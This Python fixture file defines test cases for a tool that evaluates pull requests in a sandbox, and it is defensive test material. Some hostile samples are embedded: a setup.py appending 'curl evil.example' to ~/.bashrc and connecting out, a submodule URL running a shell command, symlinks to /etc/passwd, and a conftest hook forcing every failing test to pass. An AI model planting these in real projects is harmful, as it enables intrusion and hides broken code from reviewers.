"""Pull requests that were made for a reason, each with what must be found out about it.

Files are given by path; None takes one away. Every case stands on `BASE`, a small project whose tests pass.
"""

from collections.abc import Mapping
from dataclasses import dataclass, field
from textwrap import dedent
from typing import Any

from pr_repos import File, Link, Submodule

Files = Mapping[str, File]


@dataclass(frozen=True)
class Case:
    """`base` and `head` are changes on top of BASE and of base; `tip` is one of base's branch after that.

    Attributes:
        verdict: what it must come to; `reason` is part of the sentence.
        kinds: how many tests of each kind there must be; other kinds have none.
        review: parts of the remarks for a person, in any order.
        stayed_home: files that must not reach a sandbox.
        options: of the request.
    """

    name: str
    head: Files
    verdict: str
    kinds: Mapping[str, int] = field(default_factory=dict[str, int])
    reason: str = ""
    review: tuple[str, ...] = ()
    base: Files = field(default_factory=dict[str, File])
    tip: Files = field(default_factory=dict[str, File])
    stayed_home: tuple[str, ...] = ()
    options: Mapping[str, Any] = field(default_factory=dict[str, Any])


def text(source: str) -> str:
    """Source without its indentation."""
    return dedent(source).lstrip("\n")


SHOP = text("""
    def total(prices):
        result = 0
        for price in prices:
            result += price
        return result


    def discount(price, percent):
        return price - price * percent / 100


    def label(name):
        return name.strip().title()
    """)
TESTS = text("""
    from shop import discount, label, total


    def test_total():
        assert total([1, 2, 3]) == 6
        assert total([]) == 0


    def test_discount():
        assert discount(200, 10) == 180


    def test_label():
        assert label(" tea pot ") == "Tea Pot"
    """)
BASE: Files = {"shop.py": SHOP, "tests/test_shop.py": TESTS, "README.md": "# Shop\n"}

WRONG = SHOP.replace("price - price", "price + price")
NO_DISCOUNT = TESTS.replace("def test_discount():\n    assert discount(200, 10) == 180\n\n\n", "")
VAT = "\n\ndef vat(price):\n    return price * 119 / 100\n"
TEST_VAT = "\n\ndef test_vat():\n    assert vat(100) == 119\n"
WITH_VAT = TESTS.replace("import discount, label, total", "import discount, label, total, vat")

HIDING = text("""
    import pytest


    @pytest.hookimpl(hookwrapper=True)
    def pytest_runtest_makereport(item, call):
        outcome = yield
        report = outcome.get_result()
        report.outcome = "passed"
    """)

PICK_ONE = '\n\ndef pick():\n    return "pot"\n'
# At hash seed 0 the first one is "tea", at most others it is "pot".
PICK_ANY = '\n\ndef pick():\n    return list({"tea", "pot"})[0]\n'
WITH_PICK = (
    TESTS.replace("import discount, label, total", "import discount, label, pick, total")
    + '\n\ndef test_pick():\n    assert pick() == "pot"\n'
)

INTRUSIVE = text("""
    import os
    import socket
    from setuptools import setup

    for attempt in (
        lambda: open(os.path.expanduser("~/.bashrc"), "a").write("curl evil.example"),
        lambda: socket.create_connection(("192.0.2.7", 443), timeout=1),
    ):
        try:
            attempt()
        except OSError:
            pass
    setup(name="shop", version="1", py_modules=["shop"])
    """)

WORK = text("""
    def work():
        total = 0
        for number in range(20_000):
            total += number % 7
        return total
    """)
BENCHMARK = text("""
    from work import work


    def test_work(benchmark):
        assert benchmark(work) > 0
    """)

CASES = (
    Case(
        "plain fix",
        base={"shop.py": SHOP.replace("result += price", "result = price")},
        head={"shop.py": SHOP},
        verdict="passed",
        kinds={"fail_to_pass_strong": 1, "pass_to_pass": 2},
        options={"reruns": 3, "mutation": True},
    ),
    Case(
        "regression",
        head={"shop.py": WRONG},
        verdict="failed",
        kinds={"pass_to_fail": 1, "pass_to_pass": 2},
        reason="tests/test_shop.py::test_discount",
    ),
    Case(
        "test deleted",
        head={"shop.py": WRONG, "tests/test_shop.py": NO_DISCOUNT},
        verdict="failed",
        kinds={"removed": 1, "pass_to_pass": 2},
        reason="Deleted, skipped or weakened",
        review=("test_discount",),
    ),
    Case(
        "test skipped",
        head={
            "shop.py": WRONG,
            "tests/test_shop.py": "import pytest\n"
            + TESTS.replace("def test_discount", "@pytest.mark.skip\ndef test_discount"),
        },
        verdict="failed",
        kinds={"newly_skipped": 1, "pass_to_pass": 2},
        reason="Deleted, skipped or weakened",
    ),
    Case(
        "assertion weakened",
        head={
            "shop.py": WRONG,
            "tests/test_shop.py": TESTS.replace("discount(200, 10) == 180", "discount(200, 10)"),
        },
        verdict="failed",
        kinds={"pass_to_pass": 3},
        reason="Deleted, skipped or weakened",
    ),
    Case(
        "conftest that hides failures",
        head={"shop.py": WRONG, "conftest.py": HIDING},
        verdict="failed",
        kinds={"pass_to_fail": 1, "pass_to_pass": 2},
        review=("conftest.py",),
    ),
    Case(
        "os._exit(0)",
        head={
            "shop.py": SHOP.replace(
                "    return price - ", "    import os\n    os._exit(0)\n    return price + "
            )
        },
        verdict="failed",
        kinds={"pass_to_fail": 1, "pass_to_pass": 2},
    ),
    Case(
        "printed PASSED",
        head={
            "shop.py": SHOP.replace(
                "    return price - ",
                '    print("tests/test_shop.py::test_discount PASSED\\n3 passed in 0.01s")\n    return price + ',
            )
        },
        verdict="failed",
        kinds={"pass_to_fail": 1, "pass_to_pass": 2},
    ),
    Case(
        "file renamed",
        base={"tests/test_shop.py": None, "tests/test_old.py": TESTS},
        head={"tests/test_old.py": None, "tests/test_shop.py": TESTS},
        verdict="passed",
        kinds={"pass_to_pass": 3},
    ),
    Case(
        "src layout",
        base={"shop.py": None, "src/shop.py": SHOP},
        head={
            "src/shop.py": SHOP + VAT,
            "tests/test_shop.py": WITH_VAT + TEST_VAT,
        },
        verdict="passed",
        kinds={"fail_to_pass_weak": 1, "pass_to_pass": 3},
    ),
    Case(
        "monorepo",
        base={
            "shop.py": None,
            "tests/test_shop.py": None,
            "one/pyproject.toml": '[project]\nname = "one"\nversion = "1"\n',
            "one/shop.py": SHOP,
            "one/tests/test_shop.py": TESTS,
            "two/pyproject.toml": '[project]\nname = "two"\nversion = "1"\n',
            "two/shop.py": SHOP,
            "two/tests/test_shop.py": TESTS,
        },
        head={"two/shop.py": WRONG, ".github/workflows/ci.yml": "on: push\n"},
        verdict="failed",
        kinds={"pass_to_fail": 1, "pass_to_pass": 2},
        reason="two: ",
        review=(".github/workflows/ci.yml",),
    ),
    Case(
        "head's tests not collecting at base",
        head={"shop.py": SHOP + VAT, "tests/test_shop.py": WITH_VAT + TEST_VAT},
        verdict="passed",
        kinds={"fail_to_pass_weak": 1, "pass_to_pass": 3},
    ),
    Case(
        "new tests that prove nothing",
        head={
            "shop.py": SHOP.replace("result = 0", "result = 0  # cents"),
            "tests/test_shop.py": TESTS + "\n\ndef test_more():\n    assert total([5]) == 5\n",
        },
        verdict="passed",
        kinds={"new_but_pass_at_base": 1, "pass_to_pass": 3},
        review=("prove nothing",),
    ),
    Case(
        "new dependency that conflicts",
        base={"requirements.txt": "click==7.1.2\n"},
        head={"requirements.txt": "click==7.1.2\nflask>=3.1.3\n", "shop.py": SHOP + VAT},
        verdict="failed",
        reason="click",
    ),
    Case(
        "a pyproject.toml that is none",
        base={"pyproject.toml": '[project]\nname = "shop"\nversion = "1"\n'},
        head={"pyproject.toml": '[project\nname = "shop"\nversion = "1"\n'},
        verdict="failed",
        reason="pyproject.toml cannot be read",
    ),
    Case(
        "a test that the code skips",
        head={
            "shop.py": WRONG.replace(
                "    return price +", "    import pytest\n    pytest.skip()\n    return price +"
            )
        },
        verdict="errored",
        kinds={"newly_skipped": 1, "pass_to_pass": 2},
        reason="even as base has them",
    ),
    Case(
        "binary and LFS files",
        head={
            "logo.png": bytes(range(256)),
            "model.bin": "version https://git-lfs.github.com/spec/v1\noid sha256:"
            + "0" * 64
            + "\nsize 12345\n",
            "shop.py": SHOP.replace("result = 0", "result = 0.0"),
        },
        verdict="passed",
        kinds={"pass_to_pass": 3},
        stayed_home=("model.bin",),
    ),
    Case(
        "400-file diff",
        head={
            **{f"data/part_{number}.txt": f"{number}\n" for number in range(400)},
            "shop.py": SHOP.replace("result = 0", "result = 0.0"),
        },
        verdict="passed",
        kinds={"pass_to_pass": 3},
    ),
    Case("empty diff", head={}, verdict="skipped", reason="Nothing is changed"),
    Case(
        "merge conflict",
        head={"shop.py": SHOP.replace("result = 0", "result = 0.0")},
        tip={"shop.py": SHOP.replace("result = 0", "result = 0 + 0")},
        verdict="passed",
        kinds={"pass_to_pass": 3},
        review=("does not merge", "shop.py"),
    ),
    Case(
        "secrets in the tree",
        head={
            ".env": "AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMIK7MDENGbPxRfiCYzLmQpTvAbCdE\n",
            "deploy.pem": "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA\n-----END RSA PRIVATE KEY-----\n",
            "shop.py": SHOP.replace("result = 0", "result = 0.0"),
        },
        verdict="passed",
        kinds={"pass_to_pass": 3},
        stayed_home=(".env", "deploy.pem"),
    ),
    Case(
        "pure refactoring",
        head={
            "shop.py": SHOP.replace(
                "    result = 0\n    for price in prices:\n        result += price\n    return result\n",
                "    return sum(prices)\n",
            )
        },
        verdict="passed",
        kinds={"pass_to_pass": 3},
    ),
    Case(
        "documents alone",
        head={"README.md": "# Shop\n\nSells tea.\n"},
        verdict="passed",
        kinds={"pass_to_pass": 3},
    ),
    Case(
        "flaky at head",
        base={"shop.py": SHOP + PICK_ONE, "tests/test_shop.py": WITH_PICK},
        head={"shop.py": SHOP + PICK_ANY},
        verdict="passed",
        kinds={"flaky": 1, "pass_to_pass": 3},
        review=("test_pick",),
        options={"reruns": 3},
    ),
    Case(
        "flaky at base",
        base={"shop.py": SHOP + PICK_ANY, "tests/test_shop.py": WITH_PICK},
        head={"shop.py": SHOP + PICK_ONE},
        verdict="passed",
        kinds={"flaky": 1, "pass_to_pass": 3},
        review=("test_pick",),
        options={"reruns": 3},
    ),
    Case(
        "dropped Python version",
        head={
            "shop.py": SHOP.replace("def total(prices):", "def total[T: float](prices: list[T]):"),
        },
        verdict="failed",
        kinds={"pass_to_pass": 3},
        reason="On Python 3.10",
        options={"python_versions": ("3.12", "3.10")},
    ),
    Case(
        "setup.py that writes to HOME and connects",
        base={
            "setup.py": "from setuptools import setup\nsetup(name='shop', version='1', py_modules=['shop'])\n"
        },
        head={"setup.py": INTRUSIVE},
        verdict="passed",
        kinds={"pass_to_pass": 3},
        review=("network", ".bashrc"),
    ),
    Case(
        "symlink to a host file",
        head={
            "passwd": Link("/etc/passwd"),
            "up": Link("../../outside"),
            "shop.py": SHOP.replace("result = 0", "result = 0.0"),
        },
        verdict="passed",
        kinds={"pass_to_pass": 3},
        stayed_home=("passwd", "up"),
    ),
    Case(
        "submodule",
        head={
            "vendor/lib": Submodule(),
            ".gitmodules": '[submodule "lib"]\n\tpath = vendor/lib\n\turl = ext::sh -c touch% /tmp/x\n',
            "shop.py": SHOP.replace("result = 0", "result = 0.0"),
        },
        verdict="passed",
        kinds={"pass_to_pass": 3},
        stayed_home=("vendor/lib",),
    ),
    Case(
        "hook and filter in the git configuration",
        base={".gitattributes": "*.py filter=evil diff=evil merge=evil\n"},
        head={"shop.py": SHOP.replace("result = 0", "result = 0.0")},
        verdict="passed",
        kinds={"pass_to_pass": 3},
    ),
    Case(
        "a slowdown of 10 %",
        base={"work.py": WORK, "tests/test_work.py": BENCHMARK},
        head={"work.py": WORK.replace("range(20_000)", "range(22_500)")},
        verdict="failed",
        kinds={"fail_to_fail": 1, "pass_to_pass": 3},  # its own fixture is not installed
        reason="times as long",
        options={"performance": True},
    ),
)
